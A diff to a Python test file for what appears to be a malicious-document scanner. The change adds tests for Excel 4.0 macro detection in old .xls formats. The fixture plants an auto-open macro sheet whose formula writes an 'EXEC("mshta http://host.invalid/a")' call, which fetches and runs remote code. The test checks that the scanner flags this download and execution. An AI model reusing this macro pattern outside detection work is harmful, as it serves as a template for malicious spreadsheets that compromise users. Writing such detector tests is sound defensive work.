@@ -229,14 +229,15 @@ def test_s08_shared_strings_are_streamed():
 def test_s09_bare_streams():
     verdict = look(stream_of(planted()))
     assert {"xlm.executes", "xlm.autorun"} <= rules_of(verdict)
-    old = [
-        struct.pack("<HH", kind, 6) + struct.pack("<HHH", version, 0x40, 0)
-        for kind, version in ((0x409, 0x400), (0x209, 0x300))
-    ]
-    for head in (*old, b"\x09\0\4\0\2\0\x40\0"):
-        gone = look(head + record(0x0A) + bytes(16), name="old.xls")
-        assert not gone.complete
-        assert gone.level is not Level.CLEAN
+    cells = {"A1": '=FORMULA("=EXEC(""mshta http://host.invalid/a"")",A2)', "A3": "=HALT()"}
+    expected = look(planted(cells=cells))
+    for form in ("xls2", "xls3", "xls4"):
+        old = look(workbook(form, sheets={}, xlm={"Macro1": cells}, names={"Auto_Open": "Macro1!$A$1"}), name="a.xls")
+        assert {"xlm.executes", "xlm.autorun", "xlm.downloads"} <= rules_of(old)
+        assert indicators_of(old) == indicators_of(expected)
+    unknown = look(struct.pack("<HHHH", 0x809, 8, 0x0777, 0x40) + bytes(4) + record(0x0A) + bytes(16), name="old.xls")
+    assert "xlm.old-workbook" in rules_of(unknown)
+    assert not unknown.complete
 
 
 LOOPS = [
